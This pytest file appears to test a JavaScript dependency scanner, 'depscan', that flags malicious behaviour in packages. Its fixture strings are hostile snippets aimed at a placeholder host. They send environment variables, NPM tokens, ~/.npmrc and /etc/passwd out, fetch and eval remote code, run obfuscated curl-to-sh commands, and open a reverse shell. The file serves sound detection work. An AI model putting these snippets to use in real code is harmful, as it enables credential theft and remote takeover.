from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from depscan.facts.javascript import read_javascript
from depscan.facts.sink import Sink
from tests.unit.facts.seen import WHERE, one, reached_by, script_of, words

NEEDED = "const http=require('https'),os=require('os'),fs=require('fs'),cp=require('child_process'),net=require('net'),dns=require('dns');"  # noqa: E501, RUF100


@pytest.mark.parametrize(
    ("text", "source"),
    [
        (
            "const d=JSON.stringify({e:process.env});const r=http.request({hostname:'x.example.invalid',method:'POST'});r.write(d);r.end()",  # noqa: E501, RUF100
            "env.dump",
        ),
        ("fetch('https://x.example.invalid',{method:'POST',body:JSON.stringify(process.env)})", "env.dump"),
        ("fetch(`https://x.example.invalid/${os.hostname()}`)", "host.identify"),
        (
            "const k=fs.readFileSync(os.homedir()+'/.npmrc','utf8');http.get('https://x.example.invalid/?k='+encodeURIComponent(k))",
            "file.read",
        ),
        (
            "function send(d){fetch('https://x.example.invalid',{method:'POST',body:d})} send(process.env.NPM_TOKEN)",
            "env.read",
        ),
        (
            "let s='';for(const k in process.env){s+=k} const a=os.userInfo();fetch('https://x.example.invalid?'+a.username)",
            "host.identify",
        ),
        (
            "fs.readFile('/etc/passwd',(e,d)=>{http.request({host:'x.example.invalid',method:'POST'}).end(d)})",
            "file.read",
        ),
    ],
)
def test_collected_data_that_leaves_is_seen_with_its_source(text: str, source: str) -> None:
    assert source in reached_by(script_of(read_javascript, NEEDED + text), "net.send")


@pytest.mark.parametrize(
    "text",
    [
        "http.get('https://x.example.invalid/p',r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>eval(b))})",
        "fetch('https://x.example.invalid').then(r=>r.text()).then(t=>new Function(t)())",
        "fetch('https://x.example.invalid').then(r=>r.text()).then(eval)",
        "(async()=>{const r=await fetch('https://x.example.invalid');const t=await r.text();eval(t)})()",
        "cp.exec('curl https://x.example.invalid | sh')",
        "require('child_'+'process')['ex'+'ec']('curl https://x.example.invalid | sh')",
        "cp.execSync(Buffer.from('Y3VybCBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkIHwgc2g=','base64').toString())",
        "cp.exec(['hs | dilavni.elpmaxe.x//:sptth lruc'.split('').reverse().join('')].join(''))",
        "cp.execSync('\\x63url https://x.example.invalid | sh')",
        "cp.execSync(String.fromCharCode(99,117,114,108)+' https://x.example.invalid | sh')",
    ],
)
def test_fetched_content_that_is_evaluated_is_seen(text: str) -> None:
    assert "net.download" in reached_by(script_of(read_javascript, NEEDED + text), "code.eval")


def test_evaluated_text_that_is_known_is_read_as_the_next_layer() -> None:
    facts = script_of(read_javascript, "eval(atob('cmVxdWlyZSgiZnMiKS51bmxpbmtTeW5jKCIvYSIp'))")
    assert one(facts, "file.delete").layer == ("base64",)
    assert reached_by(facts, "file.delete") == {"code.decode", "code.eval"}


def test_a_downloaded_file_that_is_started_is_seen() -> None:
    text = "const f=fs.createWriteStream('/tmp/a');http.get('https://x.example.invalid/a',r=>{r.pipe(f);f.on('finish',()=>cp.spawn('/tmp/a'))})"
    assert "net.download" in reached_by(script_of(read_javascript, NEEDED + text), "process.spawn")


def test_a_shell_piped_to_a_socket_is_a_reverse_shell() -> None:
    text = "var sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'h.example.invalid',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c)})"  # noqa: E501, RUF100
    facts = script_of(read_javascript, NEEDED + text)
    assert any("reverse" in fact.guards and fact.sources for fact in facts)


def test_imports_in_every_form_are_resolved() -> None:
    for form in (
        "import {exec} from 'child_process';exec('id')",
        "import * as c from 'node:child_process';c.exec('id')",
        "const {exec: e}=require('child_process');e('id')",
        "const e=require('child_process').exec;e('id')",
        "import c from 'child_process';c.execSync('id')",
    ):
        assert "host.identify" in words(script_of(read_javascript, form)), form


def test_ordinary_modules_are_quiet() -> None:
    text = "'use strict';\nconst p = process.env.NODE_ENV === 'production';\nmodule.exports = function add(a, b) { return p ? a + b : a - b; };\n/* eval(x) */ // exec\n"  # noqa: E501, RUF100
    facts = script_of(read_javascript, text)
    assert [(fact.what, fact.values, fact.line) for fact in facts] == [("env.read", ("NODE_ENV",), 2)]


def test_an_obfuscators_names_are_unreadable_code_and_a_gap() -> None:
    sink = Sink()
    read_javascript("".join(f"var _0x{n:04x}=require;" for n in range(50)), sink=sink, **WHERE)
    assert "code.unreadable" in words(sink.facts)
    assert sink.gaps


def imported(text: str) -> list[tuple[str, str]]:
    """Return kind and time of each fact of a module that is imported."""
    sink = Sink()
    read_javascript(text, sink=sink, **{**WHERE, "when": "import"})
    return [(fact.what, fact.when) for fact in sink.facts]


@pytest.mark.parametrize(
    "text",
    [
        "function ask(){fetch('https://x.example.invalid')} module.exports={ask}",
        "module.exports=function ask(){fetch('https://x.example.invalid')}",
        "module.exports={ask:()=>fetch('https://x.example.invalid')}",
        "module.exports={ask(){fetch('https://x.example.invalid')}}",
        "export class Client { async ask(a) { fetch('https://x.example.invalid') } }",
        "class Client { static get ask() { fetch('https://x.example.invalid') } } module.exports=Client",
        "const ask=()=>{fetch('https://x.example.invalid')}; if (require.main === module) { ask() }",
        "if (require.main === module) fetch('https://x.example.invalid');",
        "function ask(){again()} function again(){fetch('https://x.example.invalid')}",
    ],
)
def test_what_a_module_only_defines_runs_when_called(text: str) -> None:
    assert imported(text) == [("net.download", "call")]


@pytest.mark.parametrize(
    "text",
    [
        "ask();function ask(){fetch('https://x.example.invalid')}",
        "const ask=function(){fetch('https://x.example.invalid')};ask()",
        "(function(){go();function go(){fetch('https://x.example.invalid')}})()",
        "setTimeout(ask,9);function ask(){fetch('https://x.example.invalid')}",
        "class Client { ask() { fetch('https://x.example.invalid') } } new Client().ask()",
        "class Client { static ask() { fetch('https://x.example.invalid') } } Client.ask()",
        "`${(()=>{fetch('https://x.example.invalid')})()}`",
        "async function main(){fetch('https://x.example.invalid')} main().catch(()=>{})",
    ],
)
def test_what_a_module_calls_itself_runs_at_import(text: str) -> None:
    assert ("net.download", "import") in imported(text)


@pytest.mark.parametrize(
    "text",
    [
        "try{cp.exec('curl https://x.example.invalid')}catch(e){}",
        "try{x()}catch(e){cp.exec('curl https://x.example.invalid')}",
        "try{x()}finally{cp.exec('curl https://x.example.invalid')}",
        "if(a){x()}else{cp.exec('curl https://x.example.invalid')}",
        "do{cp.exec('curl https://x.example.invalid')}while(a)",
        "try{const {exec}=require('child_process');exec('curl https://x.example.invalid')}catch{}",
    ],
)
def test_a_block_after_a_word_is_statements_and_no_object(text: str) -> None:
    assert "net.download" in words(script_of(read_javascript, NEEDED + text))


def test_functions_that_nobody_calls_do_not_use_up_what_the_called_ones_need() -> None:
    many = "".join(f"m[{n}]=function(e){{e.add=function(v){{return v+{n}}}}};" for n in range(1000))
    facts = script_of(
        read_javascript, NEEDED + many + "function main(){cp.exec('curl https://x.example.invalid')}main()"
    )
    assert "net.download" in words(facts)


def test_more_calls_than_are_followed_are_a_gap() -> None:
    sink = Sink()
    calls = "".join(f"f({n});" for n in range(1000))
    read_javascript("const f=(n)=>require('x'+n);" + calls, sink=sink, **WHERE)
    assert any("more calls" in gap.why for gap in sink.gaps)


def test_many_classes_take_no_quadratic_time() -> None:
    script_of(read_javascript, "require('fs');" + "class A { b() { c() } }\n" * 5_000)


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="ab.(){}[]=>,;:+'\"`$/\\ \neval1?", max_size=80))
def test_any_text_is_read_without_an_error(text: str) -> None:
    script_of(read_javascript, "require('fs');" + text)


@pytest.mark.parametrize(
    "bomb",
    [
        "(" * 20_000,
        "[" * 20_000,
        "{a:" * 5000,
        "a=>" * 5000,
        "`${" * 2000,
        "a?" * 5000,
        "!" * 20_000,
        "f(function(){" * 3000,
    ],
)
def test_nesting_bombs_end(bomb: str) -> None:
    script_of(read_javascript, "require(x);" + bomb)


def test_broken_call_chains_take_no_exponential_time() -> None:
    script_of(read_javascript, "fetch('https://x.example.invalid')" + ".then(r =)" * 60)
